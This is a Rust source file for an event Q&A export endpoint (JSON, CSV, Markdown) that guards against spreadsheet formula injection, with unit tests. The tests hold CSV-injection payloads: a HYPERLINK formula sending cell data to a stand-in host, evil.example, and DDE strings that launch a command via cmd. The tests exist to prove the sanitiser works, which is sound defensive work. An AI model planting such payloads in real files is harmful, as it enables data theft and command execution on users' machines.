//! The host's export: every question of an event (hidden ones too) with its text, author,
//! time, votes, and moderation state, as JSON, CSV or a Markdown table. Questions are in the
//! order they were asked, which is what a transcript wants (the live list's order changes).
//!
//! Guests write the texts, and hosts open the CSV in a spreadsheet: a cell that starts like a
//! formula is neutralised there and in the Markdown table ([`spreadsheet_safe`]); the JSON
//! export is data and carries every text as asked.

use std::borrow::Cow;
use std::time::{Duration, UNIX_EPOCH};

use axum::extract::{FromRequestParts, State};
use axum::http::{header, HeaderValue};
use axum::response::{IntoResponse, Response};
use ledger::limits::QUESTION_IDS_PER_REQUEST_MAX;
use ledger::{QuestionId, RecordId};
use rustc_hash::FxHashMap;
use serde::{Deserialize, Serialize};

use crate::error::ApiError;
use crate::handlers::{hosted_event, AppState};
use http_edge::PathParams;

#[derive(Deserialize)]
pub struct ExportParams {
    format: Option<String>,
}

/// The query string, with a malformed one answered as our JSON 400.
#[derive(FromRequestParts)]
#[from_request(via(axum::extract::Query), rejection(ApiError))]
pub struct QueryParams<T>(pub T);

#[derive(Clone, Copy)]
enum Format {
    Json,
    Csv,
    Markdown,
}

impl Format {
    fn parse(name: Option<&str>) -> Result<Self, ApiError> {
        match name {
            None | Some("json") => Ok(Format::Json),
            Some("csv") => Ok(Format::Csv),
            Some("md") => Ok(Format::Markdown),
            Some(_) => Err(ApiError::BadRequest("format is json, csv or md".into())),
        }
    }

    fn extension(self) -> &'static str {
        match self {
            Format::Json => "json",
            Format::Csv => "csv",
            Format::Markdown => "md",
        }
    }

    fn content_type(self) -> &'static str {
        match self {
            Format::Json => "application/json",
            Format::Csv => "text/csv; charset=utf-8",
            Format::Markdown => "text/markdown; charset=utf-8",
        }
    }
}

/// One exported question. Field order is the JSON's and [`CSV_COLUMNS`]'s.
#[derive(Serialize)]
struct Row {
    qid: QuestionId,
    text: String,
    who: String,
    asked_at: String,
    votes: u64,
    answered_at: String,
    hidden: bool,
    /// The host's written answer (left out when none).
    #[serde(skip_serializing_if = "Option::is_none")]
    reply: Option<String>,
}

/// `GET /api/export/{eid}/{secret}?format=csv|json|md` (json when absent).
pub async fn export(
    State(shared): AppState,
    PathParams((eid, secret)): PathParams<(String, String)>,
    QueryParams(params): QueryParams<ExportParams>,
) -> Result<Response, ApiError> {
    let format = Format::parse(params.format.as_deref())?;
    let event = hosted_event(&shared, &eid, &secret).await?;
    let mut questions = shared.projection.event_questions(event.id).await?;
    questions.sort_by_key(|q| q.id);
    let ids: Vec<QuestionId> = questions.iter().map(|q| q.id).collect();
    let replies: FxHashMap<QuestionId, String> = shared.projection.replies(event.id).await?.into_iter().collect();
    let mut texts = FxHashMap::default();
    // Bounded reads, the same size the texts route allows.
    for chunk in ids.chunks(QUESTION_IDS_PER_REQUEST_MAX) {
        for text in shared.projection.question_texts(chunk).await? {
            texts.insert(text.id, text);
        }
    }
    let rows: Vec<Row> = questions
        .iter()
        .map(|q| {
            let text = texts.get(&q.id);
            Row {
                qid: q.id,
                text: text.map(|t| t.text.clone()).unwrap_or_default(),
                who: text.and_then(|t| t.who.clone()).unwrap_or_default(),
                asked_at: rfc3339(q.id.timestamp_ms()),
                votes: q.votes,
                answered_at: q.answered_at().map(answered_at).unwrap_or_default(),
                hidden: q.is_hidden(),
                reply: replies.get(&q.id).cloned(),
            }
        })
        .collect();
    let body = match format {
        Format::Json => serde_json::to_vec(&rows).map_err(internal)?,
        Format::Csv => csv_body(&rows)?,
        Format::Markdown => markdown(&rows).into_bytes(),
    };
    let disposition = format!("attachment; filename=\"questions-{}.{}\"", event.id, format.extension());
    let mut response = body.into_response();
    let headers = response.headers_mut();
    headers.insert(header::CONTENT_TYPE, HeaderValue::from_static(format.content_type()));
    headers.insert(header::CACHE_CONTROL, HeaderValue::from_static("private, no-store"));
    if let Ok(value) = HeaderValue::try_from(disposition) {
        headers.insert(header::CONTENT_DISPOSITION, value);
    }
    Ok(response)
}

fn answered_at(at: RecordId) -> String {
    rfc3339(at.timestamp_ms())
}

/// RFC 3339 in UTC, to the second.
fn rfc3339(unix_ms: u64) -> String {
    let time = UNIX_EPOCH + Duration::from_millis(unix_ms);
    humantime::format_rfc3339_seconds(time).to_string()
}

fn internal(error: impl std::fmt::Display) -> ApiError {
    tracing::error!(%error, "cannot render an export");
    ApiError::Unavailable
}

/// The CSV export's header, one name per [`Row`] field in order.
const CSV_COLUMNS: [&str; 7] = ["qid", "text", "who", "asked_at", "votes", "answered_at", "hidden"];
/// The column the CSV and Markdown exports add when any question has a written answer (an
/// export without any keeps the original's columns).
const REPLY_COLUMN: &str = "reply";

/// Starts the CSV export: spreadsheet programs read a CSV without it in the system's legacy
/// code page and garble non-ASCII text. The JSON and Markdown exports are read as UTF-8
/// anyway and go without it.
const UTF8_BOM: &str = "\u{feff}";

fn csv_body(rows: &[Row]) -> Result<Vec<u8>, ApiError> {
    let mut writer = csv::Writer::from_writer(UTF8_BOM.as_bytes().to_vec());
    let with_replies = rows.iter().any(|row| row.reply.is_some());
    // Written even with no rows: an empty export still names its columns.
    let mut header = CSV_COLUMNS.to_vec();
    if with_replies {
        header.push(REPLY_COLUMN);
    }
    writer.write_record(header).map_err(internal)?;
    for row in rows {
        let qid = row.qid.to_string();
        let votes = row.votes.to_string();
        let cells: [&str; CSV_COLUMNS.len()] = [
            &qid,
            &row.text,
            &row.who,
            &row.asked_at,
            &votes,
            &row.answered_at,
            if row.hidden { "true" } else { "false" },
        ];
        let mut cells = cells.to_vec();
        if with_replies {
            cells.push(row.reply.as_deref().unwrap_or_default());
        }
        // Every cell, not just the guests' texts: the rule holds whatever a column becomes.
        // The csv writer quotes a cell that needs it (a separator, a quote, a line break).
        writer
            .write_record(
                cells.into_iter().map(spreadsheet_safe).collect::<Vec<_>>().iter().map(|cell| cell.as_bytes()),
            )
            .map_err(internal)?;
    }
    writer.into_inner().map_err(internal)
}

/// What a spreadsheet reads as the start of a formula (OWASP's CSV-injection rule): `=`,
/// `+`, `-`, `@`, a tab and a carriage return.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell's text made safe to open in a spreadsheet: one that starts like a formula gets a
/// leading `'`, which spreadsheets read as "this is text" and do not show; any other text is
/// kept as it is.
fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

fn markdown(rows: &[Row]) -> String {
    let with_replies = rows.iter().any(|row| row.reply.is_some());
    let mut out = if with_replies {
        String::from(
            "| asked at | question | who | votes | answered at | hidden | reply |\n|---|---|---|---:|---|---|---|\n",
        )
    } else {
        String::from("| asked at | question | who | votes | answered at | hidden |\n|---|---|---|---:|---|---|\n")
    };
    for row in rows {
        out.push_str(&format!(
            "| {} | {} | {} | {} | {} | {} |",
            row.asked_at,
            markdown_cell(&spreadsheet_safe(&row.text)),
            markdown_cell(&spreadsheet_safe(&row.who)),
            row.votes,
            row.answered_at,
            if row.hidden { "yes" } else { "no" },
        ));
        if with_replies {
            out.push_str(&format!(" {} |", markdown_cell(&spreadsheet_safe(row.reply.as_deref().unwrap_or_default()))));
        }
        out.push('\n');
    }
    out
}

/// A table cell holds one line and no unescaped pipe; markup in guests' text is escaped so
/// the table renders as what was asked.
fn markdown_cell(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\r' => {}
            '\n' => out.push_str("<br>"),
            '|' | '\\' | '*' | '_' | '`' | '[' | ']' | '<' | '>' | '#' => {
                out.push('\\');
                out.push(c);
            }
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markdown_cells_stay_one_cell() {
        assert_eq!(markdown_cell("a | b\nc"), "a \\| b<br>c");
        assert_eq!(rfc3339(0), "1970-01-01T00:00:00Z");
    }

    fn row(text: &str, who: &str) -> Row {
        Row {
            qid: QuestionId::from_u128(7),
            text: text.into(),
            who: who.into(),
            asked_at: rfc3339(0),
            votes: 3,
            answered_at: String::new(),
            hidden: false,
            reply: None,
        }
    }

    #[test]
    fn a_reply_column_appears_when_a_question_has_a_written_answer() {
        let plain = [row("What is next?", "Ada")];
        assert!(!String::from_utf8(csv_body(&plain).expect("csv")).expect("utf-8").contains("reply"));
        let replied =
            [Row { reply: Some("=soon, see | slides".into()), ..row("What is next?", "Ada") }, row("And then?", "")];
        let cells = csv_cells(&replied);
        assert_eq!(cells[0].last().map(String::as_str), Some("reply"));
        assert_eq!(cells[1][7], "'=soon, see | slides", "quoted against formulas like every cell");
        assert_eq!(cells[2][7], "", "a question without an answer has an empty cell");
        let table = markdown(&replied);
        assert!(table.starts_with("| asked at | question | who | votes | answered at | hidden | reply |"), "{table}");
        assert!(table.contains("| no | '=soon, see \\| slides |"), "{table}");
        let json = serde_json::to_value(&replied).expect("json");
        assert_eq!(json[0]["reply"], "=soon, see | slides");
        assert!(json[1].get("reply").is_none());
    }

    /// The export's CSV as a spreadsheet's importer would split it: header, then rows of cells.
    fn csv_cells(rows: &[Row]) -> Vec<Vec<String>> {
        let body = csv_body(rows).expect("renders");
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&body[..])
            .records()
            .map(|record| record.expect("parses").iter().map(str::to_owned).collect())
            .collect()
    }

    /// One case per character of the OWASP rule, each in the text and the author's name.
    const FORMULAS: [(char, &str); 6] = [
        ('=', "=HYPERLINK(\"https://evil.example/?\"&A1,\"see slides\")"),
        ('+', "+1+cmd|' /C calc'!A0"),
        ('-', "-2+3 and a question"),
        ('@', "@SUM(1+1)*cmd|' /C calc'!A0"),
        ('\t', "\t=1+1 behind a tab"),
        ('\r', "\r=1+1 behind a carriage return"),
    ];

    #[test]
    fn each_formula_start_gets_a_leading_quote() {
        for (start, text) in FORMULAS {
            assert!(text.starts_with(start));
            assert_eq!(spreadsheet_safe(text), format!("'{text}"), "{start:?}");
            let alone = start.to_string();
            assert_eq!(spreadsheet_safe(&alone), format!("'{start}"), "{start:?} alone");
        }
    }

    #[test]
    fn other_text_is_kept_as_it_is() {
        for text in
            ["", "How = what?", "a - b", " =1+1", "'=already quoted", "\u{FF1D}fullwidth", "2024-01-01T00:00:00Z"]
        {
            assert!(matches!(spreadsheet_safe(text), Cow::Borrowed(kept) if kept == text), "{text:?}");
        }
    }

    #[test]
    fn csv_cells_that_start_a_formula_are_quoted_text() {
        for (start, text) in FORMULAS {
            let name = format!("{start}Mallory");
            let cells = csv_cells(&[row(text, &name)]);
            assert_eq!(cells[0], CSV_COLUMNS, "{start:?}: the header");
            assert_eq!(cells[1][1], format!("'{text}"), "{start:?}: the text");
            assert_eq!(cells[1][2], format!("'{name}"), "{start:?}: the name");
            // The other cells are as they were.
            assert_eq!(cells[1][0], QuestionId::from_u128(7).to_string());
            assert_eq!(cells[1][3..], ["1970-01-01T00:00:00Z", "3", "", "false"]);
        }
    }

    #[test]
    fn the_csv_is_quoted_where_the_format_needs_it() {
        let body = csv_body(&[row("\r=1+1, \"two\"", "Ada")]).expect("renders");
        let body = String::from_utf8(body).expect("utf-8");
        let line = body.split_once('\n').expect("a header line").1;
        assert!(line.contains(",\"'\r=1+1, \"\"two\"\"\",Ada,"), "{line:?}");
        let plain = csv_cells(&[row("What is next?", "Ada")]);
        assert_eq!(plain[1][1], "What is next?");
    }

    #[test]
    fn only_the_csv_starts_with_a_byte_order_mark() {
        let rows = [row("Qu'est-ce que ça coûte ? 日本語", "Zoë")];
        let body = csv_body(&rows).expect("renders");
        assert!(body.starts_with(b"\xEF\xBB\xBF"), "{body:?}");
        let text = String::from_utf8(body).expect("utf-8");
        let text = text.strip_prefix('\u{feff}').expect("one BOM");
        assert!(text.starts_with("qid,text,who,"), "{text:?}");
        assert!(!text.contains('\u{feff}'), "one BOM, at the start only");
        assert!(text.contains("Qu'est-ce que ça coûte ? 日本語,Zoë,"), "{text:?}");
        // An empty export has the mark too, then the header.
        let empty = csv_body(&[]).expect("renders");
        assert_eq!(
            String::from_utf8(empty).expect("utf-8"),
            "\u{feff}qid,text,who,asked_at,votes,answered_at,hidden\n"
        );
        assert!(!markdown(&rows).starts_with('\u{feff}'));
        let json = serde_json::to_vec(&rows).expect("renders");
        assert!(json.starts_with(b"[{"), "{json:?}");
    }

    #[test]
    fn markdown_text_cells_that_start_a_formula_are_quoted_text() {
        for (start, text) in FORMULAS {
            let name = format!("{start}Mallory");
            let table = markdown(&[row(text, &name)]);
            let cells: Vec<&str> = table.lines().nth(2).expect("a row").split(" | ").collect();
            assert_eq!(cells[1], markdown_cell(&format!("'{text}")), "{start:?}: the text");
            assert!(cells[1].starts_with('\''), "{start:?}: {table}");
            assert_eq!(cells[2], markdown_cell(&format!("'{name}")), "{start:?}: the name");
        }
        let plain = markdown(&[row("What is next?", "Ada")]);
        assert!(plain.contains("| What is next? | Ada |"), "{plain}");
    }
}
